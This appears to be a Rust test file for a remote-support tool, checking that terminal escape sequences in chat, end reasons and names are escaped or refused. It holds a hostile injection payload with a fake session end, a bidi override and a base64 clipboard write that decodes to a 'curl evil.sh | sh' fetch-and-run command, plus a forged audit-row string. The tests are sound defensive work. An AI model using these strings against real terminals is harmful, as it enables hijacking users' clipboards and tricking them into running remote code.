//! Text from the other side is shown, never obeyed. A technician's chat
//! line cannot fake the end of the session on the end user's terminal, set
//! their clipboard (OSC 52) or window title, or overwrite the verification
//! code; an end user cannot do the same to the technician; a technician's
//! end reason cannot forge rows in the operator's `admin audit`. Names and
//! labels people will read on other screens are refused at the door if
//! they hold control or invisible characters.
#![allow(clippy::unwrap_used)]

use lifeline_tests::*;
use std::time::Duration;

/// What a hostile other side sends: a fake end of session with a shell
/// prompt, a clipboard write, a window title, a cursor jump over the
/// verification code, a bidi override and a line separator. No newline,
/// so it is one chat line.
const PAYLOAD: &str = "hi\u{1b}[2K\r\u{1b}[1ASession ended.\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\u{1b}]0;owned\u{7}\u{1b}[H\u{9b}31m$ \u{202e}txt.exe\u{2028}x";

/// Characters that must never reach a terminal from the other side.
fn raw_controls(s: &str) -> Vec<char> {
    s.chars()
        .filter(|&c| matches!(c, '\u{1b}' | '\u{7}' | '\u{9b}' | '\u{202e}' | '\u{2028}'))
        .collect()
}

#[test]
fn chat_from_the_technician_is_shown_escaped_on_the_applet() {
    let s = Scenario::start(&[]);
    let (path, guid) = s.session("escapes");
    let mut applet = Proc::applet(&path, &[]);
    applet.out.wait_for(&format!("Waiting for {TECH_NAME}"));
    let (mut tech, _) = pair_with(
        &s.console,
        &mut applet,
        "escapes",
        &guid,
        &["--path", "relay"],
    );
    tech.send(&format!("say {PAYLOAD}"));
    let line = applet.out.wait_for("Session ended.");
    assert!(
        raw_controls(&line).is_empty(),
        "raw controls reached the user: {line:?}"
    );
    assert!(
        line.contains(r"\e]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"),
        "the clipboard write is not shown escaped: {line}"
    );
    assert!(line.contains(r"\u{202e}txt.exe\u{2028}x"), "{line}");
    assert!(line.starts_with(&format!("{TECH_NAME}: hi")), "{line}");
    end_session(&mut tech, &mut applet);
}

/// The console on a real terminal (a pty, via `script`), in its
/// line-mode chat: the end user's payload is shown escaped, and an escape
/// typed into the line is a key, not text; an end reason with controls
/// (`session end --reason`) is stored as given, so `gateway admin audit`
/// shows it escaped, while `--json` stays exact.
#[test]
fn chat_from_the_end_user_is_shown_escaped_on_the_console_and_in_the_audit() {
    let s = Scenario::start(&[]);
    let (path, guid) = s.session("pty");
    let mut applet = Proc::applet(&path, &[]);
    applet.out.wait_for(&format!("Waiting for {TECH_NAME}"));
    let console_cmd = format!(
        "{} --config-dir {} connect pty --path relay",
        bin("tech-console").display(),
        s.console.dir.path().display()
    );
    let mut pty = Pty::spawn(&console_cmd);
    pty.wait("the verification code", "Verification code");
    applet.send(PAYLOAD);
    let shown = pty.wait("the end user's chat", "Session ended.");
    let line = shown
        .lines()
        .find(|l| l.contains("Session ended."))
        .unwrap()
        .to_owned();
    // Line mode clears its prompt (`\r\e[2K`) before it prints a message
    // above it: the console's own control, before the end user's line.
    let line = line[line.find("end user:").unwrap()..].to_owned();
    assert!(
        raw_controls(&line).is_empty(),
        "raw controls reached the technician: {line:?}"
    );
    assert!(line.contains(r"\e]52;c;"), "{line}");
    assert!(line.contains(r"\u{202e}"), "{line}");
    // Keys typed on the technician's terminal are keys: an escape typed
    // into the line is a key press, never a control in the text sent.
    pty.type_line("/end done\u{1b}[2K for today");
    applet.out.wait_for("Session ended");
    assert!(applet.wait_exit(Duration::from_secs(20)).success());
    let _ = wait_timeout(&mut pty.child, Duration::from_secs(20));
    let typed = s.gw.admin(&["audit", "--session", &guid], "");
    let typed = String::from_utf8_lossy(&typed.stdout).into_owned();
    assert!(raw_controls(&typed).is_empty(), "{typed:?}");
    assert!(typed.contains("ended by technician: done"), "{typed}");

    // A reason carrying a forged audit row (`session end --reason`, which
    // takes any text) is stored as given and shown escaped.
    let (_path, guid) = s.session("forged");
    let reason = "done\u{1b}[2K\u{1b}[1G2026-12-01T00:00:00Z  -  admin  technician added  mallory\u{1b}]0;pwned\u{7}";
    let out = s
        .console
        .run(&["session", "end", "forged", "--reason", reason], "");
    assert!(out.status.success(), "{out:?}");
    let text = s.gw.admin(&["audit", "--session", &guid], "");
    let text = String::from_utf8_lossy(&text.stdout).into_owned();
    assert!(
        raw_controls(&text).is_empty(),
        "raw controls in admin audit: {text:?}"
    );
    let ended: Vec<&str> = text.lines().filter(|l| l.contains("pwned")).collect();
    assert!(!ended.is_empty(), "no end reason in the audit:\n{text}");
    for l in ended {
        assert!(l.contains(r"\e[2K\e[1G2026-12-01"), "{l}");
        assert!(l.contains(r"\e]0;pwned\x07"), "{l}");
    }
    // JSON is exact: what was stored, escapes shown as text.
    let json = s.gw.audit(Some(&guid));
    assert!(json.iter().any(|e| {
        e["detail"]
            .as_str()
            .unwrap()
            .contains(r"done\e[2K\e[1G2026")
    }));
}

#[test]
fn names_and_labels_with_control_or_invisible_characters_are_refused() {
    let s = Scenario::start(&[]);
    for (name, group, what) in [
        ("Eve\u{202e}lanoisseforP", "default", "the name"),
        ("Zero\u{200b}Width", "default", "the name"),
        ("Line\u{2028}Break", "default", "the name"),
        ("Escape \u{1b}[32mGreen", "default", "the name"),
        ("Eve", "sup\u{202e}port", "the group name"),
    ] {
        let out = s.gw.admin(
            &[
                "technician",
                "add",
                "--email",
                "eve@example.com",
                "--name",
                name,
                "--group",
                group,
                "--password-stdin",
            ],
            "correct horse battery\n",
        );
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{name:?} / {group:?} was accepted");
        assert!(
            err.contains(what) && err.contains("invisible or control character U+"),
            "{err}"
        );
    }
    let out =
        s.gw.admin(&["group", "permissions", "x\u{2029}y", "none"], "");
    assert!(!out.status.success());
    for label in ["a\u{202e}b", "zero\u{200b}width", "x\u{2028}y"] {
        let out = s.console.run(
            &[
                "session",
                "new",
                "--label",
                label,
                "--out",
                s.files.path().join("never").to_str().unwrap(),
            ],
            "",
        );
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "label {label:?} was accepted");
        assert!(err.contains("invisible or control character"), "{err}");
    }
    assert!(!s.files.path().join("never").exists());
}
